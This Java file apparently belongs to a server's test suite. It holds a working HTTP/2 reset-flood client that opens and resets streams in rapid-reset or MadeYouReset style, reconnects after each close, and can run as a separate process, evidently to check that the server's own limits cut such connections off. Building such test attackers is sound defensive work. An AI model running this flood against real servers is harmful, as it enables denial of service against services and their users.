package io.tickscope.server.limits;

import io.netty.bootstrap.Bootstrap;
import io.netty.buffer.ByteBuf;
import io.netty.channel.Channel;
import io.netty.channel.ChannelHandlerContext;
import io.netty.channel.ChannelInitializer;
import io.netty.channel.ChannelOption;
import io.netty.channel.EventLoopGroup;
import io.netty.channel.MultiThreadIoEventLoopGroup;
import io.netty.channel.WriteBufferWaterMark;
import io.netty.channel.nio.NioIoHandler;
import io.netty.channel.socket.SocketChannel;
import io.netty.channel.socket.nio.NioSocketChannel;
import io.netty.handler.codec.ByteToMessageDecoder;
import io.netty.handler.codec.http2.DefaultHttp2FrameReader;
import io.netty.handler.codec.http2.DefaultHttp2FrameWriter;
import io.netty.handler.codec.http2.DefaultHttp2Headers;
import io.netty.handler.codec.http2.Http2CodecUtil;
import io.netty.handler.codec.http2.Http2FrameAdapter;
import io.netty.handler.codec.http2.Http2FrameReader;
import io.netty.handler.codec.http2.Http2FrameWriter;
import io.netty.handler.codec.http2.Http2Headers;
import io.netty.handler.codec.http2.Http2Settings;
import io.netty.handler.ssl.SslContext;
import io.netty.handler.ssl.SslHandshakeCompletionEvent;
import java.io.BufferedReader;
import java.io.InputStreamReader;
import java.net.InetSocketAddress;
import java.nio.charset.StandardCharsets;
import java.util.List;
import java.util.concurrent.CompletableFuture;
import java.util.concurrent.CountDownLatch;
import java.util.concurrent.ExecutionException;
import java.util.concurrent.TimeUnit;
import java.util.concurrent.TimeoutException;
import java.util.concurrent.atomic.AtomicLong;
import org.jspecify.annotations.Nullable;

/**
 * A hostile HTTP/2 client that makes the server spend work on streams that end in a reset, as fast as the socket
 * takes the frames, until the server closes the connection; then it connects again. Which side resets is the
 * {@link ResetFlood}: the client itself (rapid reset) or the server, provoked by a broken frame (MadeYouReset).
 * It speaks raw frames, so no client-side safety net slows it down.
 */
final class ResetFloodAttacker implements AutoCloseable {

    /** Starts every line the attacker's process reports on standard output. */
    static final String REPORT_PREFIX = "reset-flood-attacker: ";

    /** Streams opened and reset per flush. */
    private static final int STREAMS_PER_BATCH = 64;

    private final InetSocketAddress server;
    private final ResetFlood flood;
    private final @Nullable SslContext tls;
    private final EventLoopGroup group = new MultiThreadIoEventLoopGroup(1, NioIoHandler.newFactory());
    private final Http2Headers headers;
    private final AtomicLong streamsReset = new AtomicLong();
    private final AtomicLong connections = new AtomicLong();
    private final AtomicLong connectionsClosed = new AtomicLong();
    private volatile boolean running;
    private @Nullable Thread attackThread;
    private volatile CountDownLatch firstFrames = new CountDownLatch(0);

    ResetFloodAttacker(InetSocketAddress server, ResetFlood flood) {
        this(server, flood, null);
    }

    /** An attacker that speaks TLS with {@code tls}, which must offer h2 by ALPN. */
    ResetFloodAttacker(InetSocketAddress server, ResetFlood flood, @Nullable SslContext tls) {
        this.server = server;
        this.flood = flood;
        this.tls = tls;
        this.headers = new DefaultHttp2Headers()
                .method("POST")
                .scheme(tls == null ? "http" : "https")
                .authority(server.getHostString() + ':' + server.getPort())
                .path("/tickscope.pricing.v1.PricingService/GetPrice")
                .add("content-type", "application/grpc")
                .add("te", "trailers");
    }

    /** Attacks one connection and returns once the server has closed it: the outcome of that connection. */
    Outcome attackOnce() throws InterruptedException {
        ConnectionAttack attack = new ConnectionAttack();
        Channel channel = bootstrap(attack).connect(server).sync().channel();
        connections.incrementAndGet();
        try {
            return attack.outcome.get(30, TimeUnit.SECONDS);
        } catch (ExecutionException e) {
            channel.close();
            throw new AssertionError("the attack could not start", e.getCause());
        } catch (TimeoutException e) {
            channel.close();
            throw new AssertionError("the server did not close the attacking connection within 30 s", e);
        }
    }

    /**
     * Runs an attacker in a process of its own, driven by lines on standard input: {@code start} attacks
     * connection after connection and prints {@code attacking} once the first frames are out, {@code stop} finishes the connection under attack and prints
     * {@code connections closed resets}, the totals so far. It prints {@code ready} first. Each of these lines
     * starts with {@link #REPORT_PREFIX}, apart from whatever logging shares standard output.
     *
     * <p>Arguments: the server's host and port, and the {@link ResetFlood} to send.
     */
    public static void main(String[] args) throws Exception {
        InetSocketAddress target = new InetSocketAddress(args[0], Integer.parseInt(args[1]));
        ResetFlood flood = ResetFlood.valueOf(args[2]);
        BufferedReader commands = new BufferedReader(new InputStreamReader(System.in, StandardCharsets.UTF_8));
        try (ResetFloodAttacker attacker = new ResetFloodAttacker(target, flood)) {
            System.out.println(REPORT_PREFIX + "ready");
            for (String command = commands.readLine(); command != null; command = commands.readLine()) {
                if (command.equals("start")) {
                    attacker.startAttacking();
                    System.out.println(REPORT_PREFIX + "attacking");
                } else if (command.equals("stop")) {
                    attacker.stopAttacking();
                    System.out.println(REPORT_PREFIX + attacker.connections() + " " + attacker.connectionsClosed() + " "
                            + attacker.streamsReset());
                } else {
                    throw new IllegalArgumentException("command: " + command + " (expected: start or stop)");
                }
            }
        }
    }

    /**
     * Attacks connection after connection on a thread of its own until {@link #stopAttacking()}; returns once the
     * first frames are on their way.
     */
    void startAttacking() throws InterruptedException {
        CountDownLatch flooding = new CountDownLatch(1);
        firstFrames = flooding;
        running = true;
        Thread thread = new Thread(
                () -> {
                    while (running) {
                        try {
                            attackOnce();
                        } catch (InterruptedException e) {
                            return;
                        }
                    }
                },
                "reset-flood-attacker");
        thread.start();
        attackThread = thread;
        flooding.await();
    }

    /** Lets the connection under attack end (the server closes it) and returns once it has. */
    void stopAttacking() throws InterruptedException {
        running = false;
        Thread thread = attackThread;
        if (thread != null) {
            thread.join();
        }
    }

    long streamsReset() {
        return streamsReset.get();
    }

    long connections() {
        return connections.get();
    }

    long connectionsClosed() {
        return connectionsClosed.get();
    }

    @Override
    public void close() {
        running = false;
        group.shutdownGracefully(0, 1, TimeUnit.SECONDS).syncUninterruptibly();
    }

    private Bootstrap bootstrap(ConnectionAttack attack) {
        return new Bootstrap()
                .group(group)
                .channel(NioSocketChannel.class)
                .option(ChannelOption.TCP_NODELAY, true)
                // A small send buffer: the flood goes exactly as fast as the server reads it, and little of it
                // is left unsent (wasted work on this shared machine) when the server closes the connection.
                .option(ChannelOption.SO_SNDBUF, 16 * 1024)
                .option(ChannelOption.WRITE_BUFFER_WATER_MARK, new WriteBufferWaterMark(4 * 1024, 16 * 1024))
                .handler(new ChannelInitializer<SocketChannel>() {
                    @Override
                    protected void initChannel(SocketChannel channel) {
                        if (tls != null) {
                            channel.pipeline()
                                    .addLast(tls.newHandler(channel.alloc(), server.getHostString(), server.getPort()));
                        }
                        channel.pipeline().addLast(attack);
                    }
                });
    }

    /**
     * How one attacked connection ended: how many streams it had reset (or provoked the server to reset) before
     * the server closed it, and how many RST_STREAM frames of the server it read. The server's last frames often
     * do not reach this client: the server closes with the flood still unread in its socket, so its kernel
     * answers with a TCP reset that discards what this side had not read yet.
     */
    record Outcome(long streamsReset, long resetsReceived) {}

    /** Floods one connection and reads (and answers) the server's SETTINGS. */
    private final class ConnectionAttack extends ByteToMessageDecoder {

        final CompletableFuture<Outcome> outcome = new CompletableFuture<>();
        private final Http2FrameWriter writer = new DefaultHttp2FrameWriter();
        private final Http2FrameReader reader = new DefaultHttp2FrameReader();
        private final Listener listener = new Listener();
        private int nextStreamId = 1;
        // Under TLS nothing may be written before the handshake: the preface goes first.
        private boolean started;
        private long streamsResetOnThisConnection;
        private long resetsReceivedOnThisConnection;

        @Override
        public void channelActive(ChannelHandlerContext ctx) throws Exception {
            if (tls == null) {
                startFlood(ctx);
            }
            super.channelActive(ctx);
        }

        @Override
        public void userEventTriggered(ChannelHandlerContext ctx, Object event) throws Exception {
            if (event instanceof SslHandshakeCompletionEvent handshake) {
                if (handshake.isSuccess()) {
                    startFlood(ctx);
                } else {
                    outcome.completeExceptionally(handshake.cause());
                }
            }
            super.userEventTriggered(ctx, event);
        }

        private void startFlood(ChannelHandlerContext ctx) {
            started = true;
            ctx.write(Http2CodecUtil.connectionPrefaceBuf());
            writer.writeSettings(ctx, new Http2Settings(), ctx.newPromise());
            ctx.flush();
            flood(ctx);
        }

        @Override
        public void channelWritabilityChanged(ChannelHandlerContext ctx) throws Exception {
            if (ctx.channel().isWritable()) {
                flood(ctx);
            }
            super.channelWritabilityChanged(ctx);
        }

        @Override
        public void channelInactive(ChannelHandlerContext ctx) throws Exception {
            connectionsClosed.incrementAndGet();
            outcome.complete(new Outcome(streamsResetOnThisConnection, resetsReceivedOnThisConnection));
            super.channelInactive(ctx);
        }

        @Override
        public void exceptionCaught(ChannelHandlerContext ctx, Throwable cause) {
            // A write racing the server's close fails here; the close that follows ends this connection's attack.
            ctx.close();
        }

        @Override
        protected void decode(ChannelHandlerContext ctx, ByteBuf in, List<Object> out) throws Exception {
            reader.readFrame(ctx, in, listener);
        }

        /** Opens and resets streams while the socket takes the frames, then yields to reads. */
        private void flood(ChannelHandlerContext ctx) {
            Channel channel = ctx.channel();
            if (!started || !channel.isActive() || !channel.isWritable() || nextStreamId < 0) {
                return;
            }
            for (int i = 0; i < STREAMS_PER_BATCH; i++) {
                int streamId = nextStreamId;
                nextStreamId += 2;
                flood.openAndReset(ctx, writer, streamId, headers);
                streamsResetOnThisConnection++;
                streamsReset.incrementAndGet();
            }
            ctx.flush();
            firstFrames.countDown();
            ctx.executor().execute(() -> flood(ctx));
        }

        private final class Listener extends Http2FrameAdapter {

            @Override
            public void onSettingsRead(ChannelHandlerContext ctx, Http2Settings settings) {
                writer.writeSettingsAck(ctx, ctx.newPromise());
                ctx.flush();
            }

            @Override
            public void onRstStreamRead(ChannelHandlerContext ctx, int streamId, long errorCode) {
                resetsReceivedOnThisConnection++;
            }
        }
    }
}
